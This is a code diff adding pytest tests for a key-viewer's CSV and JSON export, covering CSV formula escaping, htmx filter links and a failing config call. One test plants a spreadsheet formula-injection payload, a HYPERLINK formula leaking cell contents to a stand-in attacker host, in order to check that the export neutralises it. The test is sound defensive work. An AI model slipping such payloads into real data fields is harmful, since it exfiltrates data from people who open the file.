@@ -101,3 +101,23 @@ def test_the_json_export_lists_the_same_keys(viewer_client):
     data = json.loads(viewer_client.get(URL + "export.json", {"state": "invalid"}).content)
     assert [key["id"] for key in data["keys"]] == [demo.KEY_OLD_ANTHROPIC]
     assert data["keys"][0]["error_message"] == "Invalid API key"
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula(viewer_client, sandbox):
+    key = next(iter(sandbox.state.provider_keys.values()))
+    key.name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    content = viewer_client.get(URL + "export.csv").content.decode()
+    assert "'=HYPERLINK(" in content
+    assert "\n=HYPERLINK(" not in content and ",=HYPERLINK(" not in content
+
+
+def test_the_export_links_follow_filters_applied_with_htmx(viewer_client):
+    response = viewer_client.get(URL, {"q": "claude"}, headers={"HX-Request": "true"})
+    assert 'href="/sandbox/keys/export.csv?q=claude"' in response.content.decode()
+
+
+def test_the_export_survives_a_failing_config_call(viewer_client, sandbox):
+    sandbox.faults.add("evaluation_config", status=500)
+    response = viewer_client.get(URL + "export.json")
+    assert response.status_code == 200
+    assert not any(key["active"] for key in json.loads(response.content)["keys"])
